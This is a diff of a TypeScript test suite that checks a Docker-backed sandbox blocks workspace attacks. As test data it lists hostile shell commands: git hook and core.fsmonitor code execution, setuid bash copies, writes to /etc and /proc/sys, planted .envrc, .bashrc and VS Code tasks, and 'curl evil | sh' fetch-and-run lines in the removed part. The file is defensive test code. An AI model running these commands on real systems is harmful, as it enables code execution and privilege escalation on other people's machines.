@@ -1,28 +1,22 @@
-// A reduced set of the OS sandbox's git and file system attacks (os/attacks-git.test.ts,
-// os/attacks-filesystem.test.ts), run through a Docker client over the same fixture bound from
-// the host: the policy code in the container must protect the host's workspace as the local
-// sandbox does. Renames use mv (the image has no python3); the mount attacks are left out (the
-// image has no mount program). For a provider as root and with a non-root provider user. Skips,
-// saying why, where no engine answers.
+// The OS sandbox's attack suites through the Docker backend, over the same fixture bound from the
+// host: the policy code in the container must protect the host's workspace as the local sandbox
+// does. First the local suites' own cases (os/test-support/*-attacks.ts) over a Docker-backed
+// fixture, one container per suite and mode, with the cases that cannot apply in a container
+// skipped, saying why; then the Docker-only cases over the same fixture: renames by mv where the
+// local cases use python3 (not in the image), setuid bits by chmod, kernel settings, and the file
+// route. For a provider as root and with a non-root provider user. Skips, saying why, where no
+// engine answers.
 import { execFileSync } from "node:child_process";
-import { mkdir, writeFile } from "node:fs/promises";
 import path from "node:path";
-import { afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import type { HttpSandboxSession } from "../http-provider.js";
-import {
-  type AttackFixture,
-  attempt,
-  createAttackFixture,
-  verdicts,
-} from "../os/test-support/fixture.js";
-import { quote } from "../os/test-support/servers.js";
-import { createDockerSandboxProvider } from "./docker-provider.js";
-import {
-  dockerSkipReason,
-  ensureSandboxImage,
-  IMAGE,
-  placeholdersGone,
-} from "./test-support/docker-engine.js";
+import { expect } from "vitest";
+import { filesystemAttacks } from "../os/test-support/filesystem-attacks.js";
+import { attempt, verdicts } from "../os/test-support/fixture.js";
+import { gitAttacks } from "../os/test-support/git-attacks.js";
+import { networkAttacks } from "../os/test-support/network-attacks.js";
+import { processAttacks } from "../os/test-support/process-attacks.js";
+import type { AttackTest } from "../os/test-support/suite.js";
+import { type DockerAttackFixture, describeDockerAttacks } from "./test-support/attack-fixture.js";
+import { dockerSkipReason, placeholdersGone } from "./test-support/docker-engine.js";
 
 const skipReason = dockerSkipReason();
 const asRoot = process.getuid?.() === 0;
@@ -33,222 +27,204 @@ const variants: { label: string; user?: string }[] = asRoot
     ]
   : [{ label: `provider as uid ${process.getuid?.()}` }];
 
-const GIT = ["-c", "safe.directory=*", "-c", "user.name=x", "-c", "user.email=x@x"];
+const NO_PYTHON = "python3 is not in the image";
+const HOST_ENVIRONMENT = "it runs with a host environment, which the container's server never sees";
+
+/** The local cases that cannot apply over Docker, and why. */
+const SKIPS = {
+  filesystem: {
+    "cannot make a setuid or setgid file or folder, which outside the sandbox would run as the caller (or root)":
+      "python3 and install are not in the image; the Docker-only case below sets the bits by chmod and mkdir",
+    "refuses each system call that sets a setuid or setgid bit, and openat2 and io_uring":
+      NO_PYTHON,
+    "still changes ordinary modes: 755, 644, +x, a folder's, install -m 755, sticky":
+      "install is not in the image; the Docker-only case below changes the other modes",
+    "cannot remount the host read-write, unmount a protection or mount over it":
+      "mount and umount are not in the image",
+    "cannot write kernel settings, /sys or device nodes":
+      "mknod is not in the image; the Docker-only case below writes kernel settings",
+    "does not run a fake bwrap from PATH or from the workspace": HOST_ENVIRONMENT,
+  },
+  git: {
+    "cannot rename .git away and plant a new one": `${NO_PYTHON}; the Docker-only case below renames by mv`,
+    "cannot write a nested repository's .git, rename it, or rename its parent folders": `${NO_PYTHON}; the Docker-only case below renames by mv`,
+    "protects on the next call a nested .git made between calls (changes made just now)":
+      "it passes a wrapper with a host-facts cache of its own (and python3 is not in the image); the Docker-only case below makes one between calls",
+    "protects on the next call a nested .git made between calls (changes made long enough ago that only the stamps tell)":
+      "it passes a wrapper with a host-facts cache of its own (and python3 is not in the image); the Docker-only case below makes one between calls",
+    "protects the hooks folder named where git finds it: an included file, the user's git config": `${HOST_ENVIRONMENT} (HOME), and it writes through a local sandbox client`,
+    "refuses a workspace past the folder limit rather than protecting it in part":
+      "it passes a wrapper limited to 300 folders; the container's server scans up to 200,000",
+  },
+  network: {
+    "reaches that same server when the policy allows the network (control)":
+      "a container's loopback is its own: the host's 127.0.0.1 is out of its reach even with the network, by design",
+    "has no network interface but loopback and cannot resolve names": "getent is not in the image",
+    "cannot connect to an abstract Unix socket of the host": `${NO_PYTHON} (and the container has a network namespace of its own, so the host's abstract sockets are out of reach by design)`,
+    "reaches that abstract socket when the policy allows the network (control, and a known limit)": `${NO_PYTHON}, and the host's abstract sockets are out of a container's reach even with the network, by design`,
+    "cannot reach a Unix socket in the host's /tmp, nor anything under /run": NO_PYTHON,
+    "cannot reach the agent socket named by SSH_AUTH_SOCK, and does not inherit the variable": `${HOST_ENVIRONMENT} (SSH_AUTH_SOCK), and ${NO_PYTHON}`,
+    "cannot reach a host process's Unix socket inside the workspace": NO_PYTHON,
+  },
+  process: {
+    "inherits only allow-listed host variables, and a caller's LD_PRELOAD never reaches the launcher": `${HOST_ENVIRONMENT}, and it asks a local wrapper for its invocation`,
+    "cannot see or signal host processes":
+      "ps is not in the image (and host processes are outside a container's pid namespace, by design)",
+    "leaves no process behind, not even one started with setsid, nohup or a double fork":
+      "ps and nohup are not in the image",
+    "cannot create nested user namespaces": "unshare and python3 are not in the image",
+    "cannot push characters into the caller's terminal with TIOCSTI":
+      "it runs a local wrapper's invocation on a host pseudo-terminal, not through a container",
+  },
+} as const;
 
 for (const variant of variants) {
-  describe.skipIf(skipReason !== undefined)(
-    `attacks through the Docker backend, ${variant.label}`,
-    () => {
-      const fixture = {} as AttackFixture;
-      let session: HttpSandboxSession | undefined;
-      const provider = createDockerSandboxProvider({
-        image: IMAGE,
-        ...(variant.user === undefined ? {} : { user: variant.user }),
-      });
-
-      /** Give the workspace to the variant's user (after any setup the host did in it). */
-      const handOver = () => {
-        if (variant.user !== undefined) execFileSync("chown", ["-R", variant.user, fixture.root]);
-      };
-      /** Run `command` in a container over the fixture's workspace (one per case). */
-      const run = async (command: string) => {
-        if (session === undefined) {
-          handOver();
-          session = await provider.acquire({ workspace: fixture.root });
-        }
-        const result = await session.client.exec(command);
-        // Placeholder folders go once no command has used them for a moment: compare after.
-        await placeholdersGone(fixture.root);
-        return result;
-      };
-      const state = async () => {
-        handOver();
-        return fixture.state();
-      };
-
-      beforeAll(() => ensureSandboxImage(), 300_000);
-      beforeEach(async () => {
-        Object.assign(fixture, await createAttackFixture());
-      });
-      afterEach(async () => {
-        await session?.release();
-        session = undefined;
-        await fixture.cleanup();
-      });
-
-      it("cannot plant a hook in the gitdir", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > .git/hooks/pre-commit"),
-            attempt("cp .git/hooks/pre-commit.sample .git/hooks/post-checkout"),
-            attempt("chmod +x .git/hooks/pre-commit.sample"),
-            attempt("rm .git/hooks/pre-commit.sample"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("cannot rename .git away and plant a new one", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("mv .git .git-old"),
-            attempt("rm -rf .git"),
-            attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
-            attempt("git init -q ."),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("cannot set git config keys that run code, commit or rewrite refs, yet can read history", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            "git log --format=%s",
-            attempt("git config core.fsmonitor 'touch /tmp/pwned; false'"),
-            attempt("git config core.hooksPath hooks"),
-            attempt("printf '[core]\\n\\thooksPath = hooks\\n' >> .git/config"),
-            attempt("git config alias.st '!touch /tmp/pwned'"),
-            attempt("git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil"),
-            attempt("git update-ref refs/heads/main HEAD"),
-          ].join("\n"),
-        );
-        expect(stdout.split("\n")[0]).toBe("initial");
-        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("cannot write a nested repository's .git, rename it, or rename its parent folders", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
-            attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
-            attempt("mv vendor/lib/.git vendor/lib/git-old"),
-            attempt("mv vendor/lib vendor/lib-old"),
-            attempt("mv vendor vendor-old"),
-            attempt("rm -rf vendor/lib/.git"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("protects the gitdir a .git file points to, and the hooks folder core.hooksPath names", async () => {
-        execFileSync("git", [
-          ...GIT,
-          "init",
-          "-q",
-          "--separate-git-dir",
-          path.join(fixture.root, "sub", "gitdir-store"),
-          path.join(fixture.root, "sub", "checkout"),
-        ]);
-        execFileSync("git", [...GIT, "config", "core.hooksPath", ".husky"], { cwd: fixture.root });
-        await mkdir(path.join(fixture.root, ".husky"));
-        await writeFile(path.join(fixture.root, ".husky", "pre-commit"), "npm test\n");
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("echo evil > sub/gitdir-store/hooks/pre-commit"),
-            attempt("echo 'gitdir: /tmp/evil' > sub/checkout/.git"),
-            attempt("rm sub/checkout/.git"),
-            attempt("git -C sub/checkout config core.fsmonitor 'touch /tmp/pwned; false'"),
-            attempt("echo 'curl evil | sh' >> .husky/pre-commit"),
-            attempt("echo evil > .husky/post-checkout"),
-            attempt("mv .husky husky-old"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(7).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("protects on the next call a nested .git made between calls", async () => {
-        const first = await run(
-          "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
-        );
-        expect(first.stdout).toBe("made\n");
-        execFileSync("git", ["init", "-q", path.join(fixture.root, "src", "by-host")]);
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
-            attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
-            attempt("mv made/by made/by-old"),
-            attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
-            attempt("rm -rf src/by-host/.git"),
-            attempt("mv src src-old"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("cannot create missing shell start-up files, .envrc, .mcp.json or editor configuration", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            attempt("echo 'curl evil | sh' > .envrc"),
-            attempt('echo \'{"mcpServers":{"x":{"command":"sh"}}}\' > .mcp.json'),
-            attempt("echo 'touch ~/pwned' > .bashrc"),
-            attempt("echo x > .zshenv"),
-            attempt("echo x > .profile"),
-            attempt("rmdir .envrc && echo x > .envrc"),
-            attempt(
-              `echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"}}]}' > .vscode/tasks.json`,
-            ),
-            attempt("mv .vscode vscode-old"),
-            attempt("mkdir -p .claude && echo '{\"hooks\":{}}' > .claude/settings.json"),
-            attempt("ln .git/config cfg"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(10).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("cannot escape through a symbolic link, nor write kernel settings", async () => {
-        const before = await state();
-        const { stdout } = await run(
-          [
-            `ln -s ${quote(fixture.outside)} made-link`,
-            attempt("echo x > made-link/new.txt"),
-            attempt("echo x > escape/new.txt"),
-            attempt("ln -s /etc made-etc && echo x > made-etc/pleach-attack"),
-            "rm -f made-link made-etc",
-            // Rewrites the current value, so even a failed defence changes nothing.
-            attempt("cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness"),
-            attempt("cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"),
-            attempt("mknod made-null c 1 3"),
-          ].join("\n"),
-        );
-        expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-
-      it("the file route refuses the same paths", async () => {
-        const before = await state();
-        await run("true");
-        const client = (session as HttpSandboxSession).client;
-        for (const [file, code] of [
-          [".git/hooks/pre-commit", "PROTECTED_PATH"],
-          ["vendor/lib/.git/config", "PROTECTED_PATH"],
-          [".vscode/tasks.json", "PROTECTED_PATH"],
-          [".envrc", "PROTECTED_PATH"],
-          ["escape/new.txt", "PATH_ESCAPE"],
-        ] as const) {
-          await expect(client.writeFile(file, "evil")).rejects.toMatchObject({ code });
-        }
-        expect(await fixture.state()).toEqual(before);
-      }, 60_000);
-    },
-  );
+  for (const [title, cases, skip] of [
+    ["file system attacks", filesystemAttacks, SKIPS.filesystem],
+    ["git attacks", gitAttacks, SKIPS.git],
+    ["network and socket attacks", networkAttacks, SKIPS.network],
+    ["process and environment attacks", processAttacks, SKIPS.process],
+  ] as const) {
+    describeDockerAttacks(`${title} through the Docker backend, ${variant.label}`, cases, {
+      skipReason,
+      skip,
+      ...(variant.user === undefined ? {} : { user: variant.user }),
+    });
+  }
 }
 
-if (skipReason !== undefined) {
-  describe("attacks through the Docker backend", () => {
-    it.skip(`skipped: ${skipReason}`, () => {});
+const GIT = ["-c", "safe.directory=*", "-c", "user.name=x", "-c", "user.email=x@x"];
+
+/** Files and folders with a setuid or setgid bit under `root`, as the host sees them. */
+function setuidFiles(root: string): string {
+  return execFileSync("find", [root, "-perm", "/6000"], { encoding: "utf8" });
+}
+
+/**
+ * What only Docker runs: the local cases' renames by mv (they rename with python3, not in the
+ * image), setuid bits and modes by chmod and mkdir alone (no python3 or install), kernel settings
+ * (no mknod), and the file route of the container's server.
+ */
+const dockerOnlyAttacks = (fixture: DockerAttackFixture, it: AttackTest) => {
+  it("cannot rename .git away and plant a new one (by mv)", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("mv .git .git-old"),
+        attempt("rm -rf .git"),
+        attempt("mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit"),
+        attempt("git init -q ."),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
   });
+
+  it("cannot write a nested repository's .git, rename it, or rename its parent folders (by mv)", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("echo evil > vendor/lib/.git/hooks/post-checkout"),
+        attempt("git -C vendor/lib config core.fsmonitor 'touch /tmp/pwned; false'"),
+        attempt("mv vendor/lib/.git vendor/lib/git-old"),
+        attempt("mv vendor/lib vendor/lib-old"),
+        attempt("mv vendor vendor-old"),
+        attempt("rm -rf vendor/lib/.git"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
+
+  it("protects on the next call a nested .git made between calls (by mv)", async () => {
+    const first = await fixture.run(
+      "git init -q made/by/command && echo ok > made/by/command/.git/info/note && echo made",
+    );
+    expect(first.stdout).toBe("made\n");
+    execFileSync("git", [...GIT, "init", "-q", path.join(fixture.root, "src", "by-host")]);
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("echo evil > made/by/command/.git/hooks/post-checkout"),
+        attempt("git -C made/by/command config core.fsmonitor 'touch /tmp/pwned; false'"),
+        attempt("mv made/by made/by-old"),
+        attempt("echo evil > src/by-host/.git/hooks/pre-commit"),
+        attempt("rm -rf src/by-host/.git"),
+        attempt("mv src src-old"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
+
+  it("cannot make a setuid or setgid file or folder by chmod or mkdir", async () => {
+    const { stdout } = await fixture.run(
+      [
+        attempt("cp /bin/bash rootsh && chmod 4755 rootsh"),
+        attempt("cp /bin/bash groupsh && chmod g+s groupsh"),
+        attempt("cp /bin/bash usersh && chmod u+s,g+s usersh"),
+        attempt("mkdir folder && chmod u+s folder"),
+        attempt("mkdir group-folder && chmod g+s group-folder"),
+        attempt("mkdir -m 2755 made-folder"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(6).fill("BLOCKED"));
+    expect(setuidFiles(fixture.root)).toBe("");
+  });
+
+  it("still changes ordinary modes: 755, 644, +x, a folder's, sticky", async () => {
+    const { stdout, exitCode } = await fixture.run(
+      [
+        "umask 022",
+        "touch plain && chmod 755 plain && stat -c %a plain",
+        "chmod 644 plain && stat -c %a plain",
+        "chmod +x plain && stat -c %a plain",
+        "chmod u-s,g-s plain && stat -c %a plain",
+        "mkdir folder && chmod 700 folder && stat -c %a folder",
+        "chmod +t folder && stat -c %a folder",
+      ].join(" && "),
+    );
+    expect(stdout).toBe("755\n644\n755\n755\n700\n1700\n");
+    expect(exitCode).toBe(0);
+  });
+
+  it("cannot escape through a link to /etc, nor write kernel settings", async () => {
+    const before = await fixture.state();
+    const { stdout } = await fixture.run(
+      [
+        attempt("ln -s /etc made-etc && echo x > made-etc/pleach-attack"),
+        "rm -f made-etc",
+        // Rewrites the current value, so even a failed defence changes nothing.
+        attempt("cat /proc/sys/vm/swappiness > /proc/sys/vm/swappiness"),
+        attempt("cat /proc/sys/kernel/core_pattern > /proc/sys/kernel/core_pattern"),
+        attempt("cat /proc/sys/kernel/hostname > /proc/sys/kernel/hostname"),
+      ].join("\n"),
+    );
+    expect(verdicts(stdout)).toEqual(Array(4).fill("BLOCKED"));
+    expect(await fixture.state()).toEqual(before);
+  });
+
+  it("the file route refuses the same paths", async () => {
+    const before = await fixture.state();
+    const { client } = await fixture.session();
+    for (const [file, code] of [
+      [".git/hooks/pre-commit", "PROTECTED_PATH"],
+      ["vendor/lib/.git/config", "PROTECTED_PATH"],
+      [".vscode/tasks.json", "PROTECTED_PATH"],
+      [".envrc", "PROTECTED_PATH"],
+      ["escape/new.txt", "PATH_ESCAPE"],
+    ] as const) {
+      await expect(client.writeFile(file, "evil")).rejects.toMatchObject({ code });
+    }
+    await placeholdersGone(fixture.root);
+    expect(await fixture.state()).toEqual(before);
+  });
+};
+
+for (const variant of variants) {
+  describeDockerAttacks(
+    `Docker-only attacks through the Docker backend, ${variant.label}`,
+    dockerOnlyAttacks,
+    { skipReason, ...(variant.user === undefined ? {} : { user: variant.user }) },
+  );
 }
